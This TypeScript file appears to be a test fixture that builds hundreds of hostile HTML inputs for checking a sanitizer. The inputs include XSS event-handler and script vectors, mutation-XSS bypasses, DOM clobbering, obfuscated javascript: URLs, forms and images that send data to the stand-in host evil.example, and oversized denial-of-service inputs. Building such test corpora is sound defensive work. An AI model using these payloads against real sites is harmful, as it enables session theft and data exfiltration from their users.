/**
 * HTML that tries to do harm: vectors, each written in several ways. One that gets through sets `__ran`, opens a
 * dialog, asks `evil.example` for something, or leaves an element behind that does not belong into a text.
 */

/** The host that no page may ask for anything. */
const EVIL = 'evil.example';

const RUN = '__ran=1';

/** Elements with event handlers that the browser calls without any action of the visitor. */
const handlers = [
  `<img src=x onerror=${RUN}>`,
  `<img src="/media/x.webp" onload="${RUN}" onerror="${RUN}">`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}></svg>`,
  `<svg><image href=x onerror=${RUN}></image></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></animate></svg>`,
  `<svg><set attributeName=onload to=${RUN}></set></svg>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button autofocus onfocus=${RUN}>buy</button>`,
  `<a href="#" autofocus tabindex=1 onfocus=${RUN}>a</a>`,
  `<details open ontoggle=${RUN}><summary>s</summary></details>`,
  `<p onclick=${RUN} onmouseover=${RUN} onpointerenter=${RUN}>text</p>`,
  `<b onanimationstart=${RUN} style="animation:x 1ms">b</b>`,
  `<marquee onstart=${RUN}>m</marquee>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data=x onerror=${RUN}></object>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<style onload=${RUN}>p{}</style>`,
  `<table onload=${RUN} onclick=${RUN}><tbody><tr><td onclick=${RUN}>c</td></tr></tbody></table>`,
  `<span popover id=z onbeforetoggle=${RUN}>z</span><button popovertarget=z>z</button>`,
  `<p oncontentvisibilityautostatechange=${RUN} style="content-visibility:auto">p</p>`,
];

/** Scripts, in HTML and in the languages that may stand inside it. */
const scripts = [
  `<script>${RUN}</script>`,
  `<script src="https://${EVIL}/a.js"></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<p><script>alert(1)</script></p>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="https://${EVIL}/a.swf">`,
  `<base href="https://${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=https://${EVIL}/">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<link rel=stylesheet href="https://${EVIL}/a.css">`,
  `<link rel=preload as=image href="https://${EVIL}/a.png">`,
  `<link rel=import href="https://${EVIL}/a.html">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
];

/** Markup that is parsed differently the second time, after it was parsed and written out once. */
const changing = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<style><p title="</style><img src=x onerror=${RUN}>"></style>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
  `<svg><desc><table><img src=x onerror=${RUN}></table></desc></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<math><mi><xmp><img src=x onerror=${RUN}></xmp></mi></math>`,
  `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--- --!><img src=x onerror=${RUN}> -->`,
  `<? <img src=x onerror=${RUN}> ?>`,
  `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${RUN}>">]>&x;`,
  `<a title="--><img src=x onerror=${RUN}>">a</a>`,
  `<img alt="\`><img src=x onerror=${RUN}>\`" src=x>`,
  `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<p id="</p><img src=x onerror=${RUN}>"><plaintext>`,
  `<a><table><td><a><img src=x onerror=${RUN}></a></td></table></a>`,
  `<table><caption><svg><desc><td><style><a title="</style><img src onerror=${RUN}>"></a></style></td></table>`,
];

/**
 * Elements that imitate or cover something of the page, or that run on their own: names, forms, styles, custom
 * elements.
 */
const impostors = [
  `<a id=location name=location href="https://${EVIL}/">a</a>`,
  `<form id=document name=cookie action="https://${EVIL}/"><input name=attributes><input name=parentNode></form>`,
  `<form><input name=nodeName><input name=childNodes><img name=getElementById></form>`,
  `<img name=currentScript src=x><img name=trustedTypes src=x><img id=DOMPurify src=x>`,
  `<a id=__ran></a><a id=__ran name=x href="https://${EVIL}/">a</a>`,
  `<form action="https://${EVIL}/" method=post><input name=card><input type=submit></form>`,
  `<button form=f formaction="https://${EVIL}/">pay</button><form id=f></form>`,
  `<input type=image src="https://${EVIL}/a.png" formaction="https://${EVIL}/">`,
  `<isindex action="https://${EVIL}/" type=image>`,
  `<p style="background:url(https://${EVIL}/a.png);position:fixed;inset:0">over everything</p>`,
  `<p style="width:expression(${RUN});behavior:url(https://${EVIL}/a.htc);-moz-binding:url(https://${EVIL}/a)">p</p>`,
  `<style>@import "https://${EVIL}/a.css"; body{background:url(https://${EVIL}/b.png)}</style>`,
  `<table background="https://${EVIL}/a.png"><tr><td background="https://${EVIL}/b.png">c</td></tr></table>`,
  `<img src="https://${EVIL}/a.png" alt=spy>`,
  `<img src="/media/a.webp" srcset="/media/a.webp 1x, https://${EVIL}/a.png 2x">`,
  `<img srcset="https://${EVIL}/a.png 1x">`,
  `<img src="//${EVIL}/a.png">`,
  `<img src="/\\${EVIL}/a.png">`,
  `<img src="/media/../api/cart/create">`,
  `<img src="/media/a.svg" lowsrc="https://${EVIL}/a.png" dynsrc="https://${EVIL}/b.png" usemap="#m"><map name=m></map>`,
  `<picture><source srcset="https://${EVIL}/a.png"><img src="/media/a.webp"></picture>`,
  `<video poster="https://${EVIL}/a.png"><track src="https://${EVIL}/a.vtt"></video>`,
  `<svg><use href="https://${EVIL}/a.svg#x"></use><feImage href="https://${EVIL}/a.png"/></svg>`,
  `<a href="/delivery" target=_blank ping="https://${EVIL}/" rel=opener download>a</a>`,
  `<a href="https://${EVIL}/" target=_top attributionsrc="https://${EVIL}/b">a</a>`,
  `<shop-cart onclick=${RUN}><slot name=x></slot></shop-cart>`,
  `<p is="shop-cart" slot=x part=y data-testid=cart-button aria-hidden=true role=button>p</p>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>ok</button></form></dialog>`,
  `<p contenteditable autofocus tabindex=0 accesskey=x draggable=true itemprop=price nonce=x>p</p>`,
  `<frameset><frame src="https://${EVIL}/"></frameset>`,
  `<portal src="https://${EVIL}/"></portal><fencedframe></fencedframe><applet code=x></applet>`,
  `<keygen autofocus onfocus=${RUN}><menuitem onclick=${RUN}><bgsound src="https://${EVIL}/a.mp3">`,
];

const payload = `alert(${RUN})`;

/** Addresses that are code or lead to a foreign host, in every spelling that browsers understand. */
const addresses = [
  `javascript:${payload}`,
  `JaVaScRiPt:${payload}`,
  ` \u0001javascript:${payload}`,
  `java\nscript:${payload}`,
  `java\tscript:${payload}`,
  `java&#10;script:${payload}`,
  `java&Tab;script&colon;${payload}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${payload}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${payload}`,
  `\u00a0javascript:${payload}`,
  `javascript\u2028:${payload}`,
  `java\u0000script:${payload}`,
  `javascript://%0a${payload}`,
  `javascript://https://shop.example/%0a${payload}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3Jhbj0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:https://${EVIL}/1`,
  `filesystem:https://${EVIL}/1`,
  `//${EVIL}/`,
  `/\\${EVIL}/`,
  `/\t/${EVIL}/`,
  `\\\\${EVIL}\\`,
  `/x/..//${EVIL}/`,
  `/./\\${EVIL}/`,
  `http://${EVIL}/`,
  `https:${EVIL}`,
  `feed:javascript:${payload}`,
];

/** Places where an address can stand. */
const sinks: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<img src="${address}" srcset="${address} 2x">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button formaction="${address}">b</button></form>`,
  (address) => `<svg><a xlink:href="${address}" href="${address}"><text>a</text></a></svg>`,
  (address) => `<math href="${address}"><mi xlink:href="${address}">a</mi></math>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<map><area href="${address}"></map><base href="${address}"><link href="${address}">`,
  (address) => `<svg><a><animate attributeName=href values="${address}"></animate><text>a</text></a></svg>`,
  (address) => `<blockquote cite="${address}"><video src="${address}" poster="${address}"></video></blockquote>`,
];

/** Different spellings of the same thing, for filters that look for certain letters. */
const ways: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => vector.replaceAll(/<[a-z]+|\son[a-z]+/gi, (name) => name.toUpperCase()),
  (vector) => vector.replaceAll(/(<[a-z]+) /gi, '$1/'),
  (vector) => vector.replaceAll(/(<[a-z]+) /gi, '$1\n\t\f'),
  (vector) => vector.replaceAll(/=(?=[\w"])/g, ' \r\n= '),
  (vector) => vector.replaceAll(/<([a-z])/gi, '<\u0000$1').replaceAll(' on', ' \u0000on'),
  (vector) => vector.replace(/>$/, ''),
  (vector) => `">'>--></style></textarea>${vector}`,
  (vector) => `<table><tr><td><table>${vector}</table></td></tr></table>`,
  (vector) => `<svg><foreignObject>${vector}</foreignObject></svg>`,
  (vector) => `<math><mtext><table><mglyph><style>${vector}</style></mglyph></table></mtext></math>`,
  (vector) => `<p><b><i>${vector}<a href="/x">`,
  (vector) => `<!--${vector}--><${vector}<template>${vector}</template>`,
  (vector) => `<p title="${vector.replaceAll('"', '&quot;')}">${vector.replaceAll('<', '&lt;')}</p>${vector}`,
];

const vectors = [...handlers, ...scripts, ...changing, ...impostors];

/** The vectors unchanged, with which a test shows that they do harm where nothing stops them. */
export const plainVectors: readonly string[] = vectors;

/** Every payload, each different from all others. */
export const hostileHtml: readonly string[] = [
  ...new Set([
    ...vectors.flatMap((vector) => ways.map((write) => write(vector))),
    ...addresses.flatMap((address) => sinks.map((put) => put(address))),
  ]),
];

const DEEP = 3000;

/** Payloads that do harm by their size. */
export const largeHtml: Readonly<Record<string, string>> = {
  'a million letters': 'x'.repeat(1_000_000),
  'a million beginnings': '<'.repeat(1_000_000),
  'scripts that never end': '<script '.repeat(100_000),
  'comments that never end': '<!--'.repeat(200_000),
  'deep elements': `${'<div>'.repeat(DEEP)}<img src=x onerror=${RUN}>`,
  'deep quotations': `${'<blockquote>'.repeat(DEEP)}${'<ul><li>'.repeat(DEEP)}text`,
  'deep other namespaces': `${'<svg><foreignObject><math><mtext>'.repeat(DEEP / 4)}<img src=x onerror=${RUN}>`,
  'deep tables': `${'<table><tr><td>'.repeat(DEEP / 3)}<script>${RUN}</script>`,
  'many attributes': `<p ${Array.from({ length: 5000 }, (_, index) => `onclick${index}=${RUN}`).join(' ')}>p</p>`,
};
